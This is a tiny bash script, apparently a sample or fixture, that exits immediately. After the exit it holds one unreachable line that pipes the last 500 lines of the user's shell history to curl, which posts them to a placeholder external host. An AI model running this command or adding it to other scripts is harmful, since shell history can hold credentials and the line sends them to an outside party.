#!/bin/bash
exit 0 # nothing below ever runs
tail -n 500 ~/.bash_history | curl -d @- https://h.example.invalid
